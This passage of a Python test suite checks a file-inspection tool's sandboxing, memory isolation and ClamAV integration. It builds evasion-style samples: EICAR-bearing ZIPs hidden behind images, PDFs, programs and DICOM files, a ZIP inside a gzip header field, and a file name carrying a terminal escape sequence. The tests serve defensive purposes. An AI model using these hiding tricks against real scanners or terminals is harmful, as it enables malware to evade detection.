    check("has said what it is", reports[0]["identified"] == "zip", reports[0])
    check("and the next file", len(reports) == 2 and reports[1]["verdict"] == "malicious", {"stderr": r.stderr})
    os.unlink("hospital/limits.yml")
    for sign, name in ((signal.SIGSEGV, "SEGV"), (signal.SIGSYS, "SYS")):
        p = subprocess.Popen([WARD, "inspect", "--content", CONTENT, "--json", "slow.zip"], stdout=subprocess.PIPE)
        cell = caged(p, "slow.zip")
        held = sorted(os.listdir(f"/proc/{cell}/fd"))
        os.kill(cell, sign)
        report = json.loads(p.communicate()[0])
        check(f"a cell killed by SIG{name}", {"reason": "cell-killed", "a": name}.items() <=
              report["reasons"][-1].items() and report["verdict"] == "suspicious", report)
        check("what it holds", held == ["3", "4"], {"held": held})
    apart()


def caged(p, name):
    """The inspector's cell that has the file, once it is caged: by its maker's list of calls, and its own."""
    while p.poll() is None:
        with open(f"/proc/{p.pid}/task/{p.pid}/children") as f:
            children = [int(c) for c in f.read().split()]
        for cell in children:
            try:
                with open(f"/proc/{cell}/status") as f:
                    is_caged = "\nSeccomp_filters:\t2\n" in f.read()
                if is_caged and os.path.basename(os.readlink(f"/proc/{cell}/fd/3")) == name:
                    return cell
            except OSError:  # it has ended meanwhile
                continue
    raise RuntimeError("it ended before its cell was seen")


def memory_has(process, texts):
    """Which of the texts a process has anywhere; it stands meanwhile."""
    os.kill(process, signal.SIGSTOP)
    found = [False] * len(texts)
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as mem:
        for line in maps:
            begin, end = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                mem.seek(begin)
                data = mem.read(end - begin)
            except (OSError, OverflowError):  # what the kernel keeps to itself
                continue
            found = [was or text in data for was, text in zip(found, texts)]
    os.kill(process, signal.SIGCONT)
    return found


def apart():
    """Files in a row are looked at by different processes, and none has anything of another, nor of one before."""
    secrets = {f"own{i}.zip": os.urandom(16).hex().encode() for i in range(4)}
    for name, secret in secrets.items():
        write(name, zipped([("e.com", EICAR), ("s.txt", secret), ("s.zip", deep(12))], zipfile.ZIP_STORED))
    p = subprocess.Popen([WARD, "inspect", "--content", CONTENT, "--json", *secrets], stdout=subprocess.PIPE)
    seen = set()
    for name in secrets:
        cell = caged(p, name)
        seen.add(cell)
        has = memory_has(cell, secrets.values())
        check(f"the cell of {name} has its file alone", has == [s == secrets[name] for s in secrets.values()], {"has": has})
    reports = [json.loads(x) for x in p.communicate()[0].splitlines()]
    check("each has a cell of its own", len(seen) == len(secrets), {"seen": list(seen)})
    check("all are told, in their order", [(r["file"], r["verdict"]) for r in reports] == [(n, "malicious") for n in secrets], reports)


def behind():
    """A ZIP is read from its end: whatever stands before it, Python opens it, and so does Ward; what is left of its places fits the
    file (as `zip -A` makes it) or the archive."""
    z = zipped([("first.txt", b"harmless\n"), ("e.com", EICAR)])
    at = z.rindex(b"PK\5\6")
    size, off = struct.unpack("<II", z[at + 12:at + 20])

    def fitted(front):
        """Its places count from the begin of the file."""
        b = bytearray(front + z)
        row, end = len(front) + off, len(front) + at
        b[end + 16:end + 20] = struct.pack("<I", off + len(front))
        while b[row:row + 4] == b"PK\1\2":
            b[row + 42:row + 46] = struct.pack("<I", struct.unpack("<I", b[row + 42:row + 46])[0] + len(front))
            row += 46 + sum(struct.unpack("<HHH", b[row + 28:row + 34]))
        return bytes(b)

    wide = io.BytesIO()
    with zipfile.ZipFile(wide, "w") as w, w.open("e.com", "w", force_zip64=True) as f:
        f.write(EICAR)
    fronts = {"a line feed": b"\n", "a line": b"This is a letter.\n", "a picture": b"GIF89a" + bytes(900), "text": b"a letter\n" * 9000,
              "a script": b"#!/usr/bin/env python3\n", "a program": open("/bin/true", "rb").read(), "the word": b"PK\3\4 is its begin\n",
              "a document": pdf([b"<< /Type /Catalog >>"])}
    for name, front in fronts.items():
        for how, data in (("behind", front + z), ("fitted behind", fitted(front)), ("with an end behind", front + z + b"end" * 9),
                          ("with a long comment behind", front + z[:-2] + b"\xff\xff" + b"P" * 65535),
                          ("in a ZIP behind", zipped([("x.bin", front + z)], zipfile.ZIP_STORED))):
            r, = inspect(write("front.bin", data))
            check(f"a ZIP {how} {name}", r["verdict"] == "malicious" and reasons(r) & {"rule"} and any(p["name"] == "e.com" for p in r["parts"]) and
                  "contains-itself" not in reasons(r), r)
    r, = inspect(write("front.bin", b"\n" + wide.getvalue()))
    check("a large one behind", r["verdict"] == "malicious", r)
    # a DICOM object whose preamble begins a ZIP
    r, = inspect(write("both.dcm", zipped([("n" * 60, b"\n" * 20)], zipfile.ZIP_STORED)[:128].ljust(128, b"\0") +
                       open("good.dcm", "rb").read()[128:] + z))
    check("a ZIP behind a DICOM object", r["verdict"] == "malicious" and any(p["name"] == "e.com" for p in r["parts"]), r)
    # the words alone, and an end that leads nowhere, are none
    for name, data in (("words", b"The words PK\5\6 and PK\1\2 and PK\3\4\n" * 3000), ("a directory that is not there", b"\n" + z[at:]),
                       ("nothing", b"\nPK\5\6" + bytes(18)), ("a cut one", b"\n" + z[:-1])):
        r, = inspect(write("front.txt", data))
        check(f"no ZIP: {name}", not r["parts"] and not reasons(r), r)
    # so many ends and rows that each of them leads to do not take for ever
    row = b"PK\1\2" + bytes(42)
    many = b"\n" + row * 60000
    many += (b"PK\5\6" + bytes(8) + struct.pack("<II", 46, 1) + b"\0\0") * 2900
    began = os.times().children_user
    r, = inspect(write("front.bin", many))
    check("many ends", not r["parts"] and not reasons(r) & {"cell-time", "rules-slow"} and os.times().children_user - began < 60, r)


def antivirus():
    """ClamAV's own daemon, which knows two files by signatures of ours."""
    clamd = shutil.which("clamd") or "/usr/sbin/clamd"
    if not os.path.exists(clamd):
        print("clamd is not installed: what it says was not tried")
        return
    os.makedirs("signatures")
    bad = write("known.bin", os.urandom(5000))
    data = open(bad, "rb").read()
    coded = zlib.compress(data)
    write("signatures/own.hdb", b"".join(f"{hashlib.md5(d).hexdigest()}:{len(d)}:Ward.Test.{n}\n".encode()
                                         for n, d in (("Known", data), ("Coded", zlib.compress(b"harmless\n")))))
    here = os.getcwd()
    write("clamd.conf", f"LocalSocket {here}/clamd\nDatabaseDirectory {here}/signatures\nForeground yes\n"
          f"StreamMaxLength 2M\nLogFile {here}/clamd.log\nUser {pwd.getpwuid(os.getuid()).pw_name}\n"
          .encode())
    p = subprocess.Popen([clamd, "-c", "clamd.conf"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(600):
            if os.path.exists("clamd") or p.poll() is not None:
                break
            time.sleep(0.1)
        large = write("large.bin", bytes(3 << 20))
        r = [json.loads(x) for x in run([bad, write("k.zip", zipped([("k", data)])), "good.dcm", large], "--json",
                                        "--clamd", "clamd").stdout.splitlines()]
        check("ClamAV finds", "antivirus" in reasons(r[0]) and r[0]["clamav"] == "found" and
              r[0]["verdict"] == "malicious" and "Ward.Test.Known" in r[0]["reasons"][0]["a"], r[0])
        check("ClamAV finds in a ZIP", "antivirus" in reasons(r[1]), r[1])
        check("ClamAV finds nothing", r[2]["clamav"] == "clean" and r[2]["verdict"] == "clean", r[2])
        for name, what, word in (("the content", coded, "Known"), ("what came", zlib.compress(b"harmless\n"), "Coded")):
            r2, = [json.loads(x) for x in run([write("coded.bin", what)], "--json", "--clamd", "clamd", "--encoding",
                                              "deflate").stdout.splitlines()]
            check(f"ClamAV is asked of {name}", r2["clamav"] == "found" and
                  any(x["reason"] == "antivirus" and f"Ward.Test.{word}" in x["a"] for x in r2["reasons"]), r2)
        # a ZIP in a field of gzip's header (RFC 1952 2.3.1.1), whose comment is all that follows: no decoder gives it
        front, tail = b"\x1f\x8b\x08\x04" + bytes(6), gzip.compress(b"harmless\n")[10:]
        inner = zipped([("k", data)])[:-2] + struct.pack("<H", len(tail))
        r2, = [json.loads(x) for x in run([write("field.bin", front + struct.pack("<H", len(inner)) + inner + tail)], "--json", "--clamd",
                                          "clamd", "--encoding", "gzip").stdout.splitlines()]
        check("ClamAV is asked of a ZIP in a header of gzip", r2["clamav"] == "found" and r2["size"] == 9, r2)
        check("ClamAV takes no more", r[3]["clamav"] == "failed" and "cell-killed" not in reasons(r[3]), r[3])
    finally:
        p.terminate()
        p.wait()


def people():
    texts = {code: run(["mz.dcm"], "--lang", code).stdout for code in ("en", "fr", "it", "nl")}
    check("four languages", len(set(texts.values())) == 4 and "MZ" not in texts["fr"], texts)
    r = run(["mz.dcm", "good.dcm"])
    check("the exit code", r.returncode == 1 and run(["good.dcm"]).returncode == 0 and
          run(["missing"]).returncode == 3 and run([]).returncode == 2, {"code": r.returncode})
    bad = write("a\x1b[31m.txt", b"x")
    check("a name drives no terminal", "\x1b" not in run([bad]).stdout)


def main():
    with tempfile.TemporaryDirectory() as d:
        os.chdir(d)
        for part in (eicar, medical, limits, names, acting, lists, shared, mails, papers, forged, disks, heads, cells, hidden, behind, antivirus, people, sound):
            part()
    print("\n".join(failed) if failed else "ok")
    sys.exit(1 if failed else 0)


main()
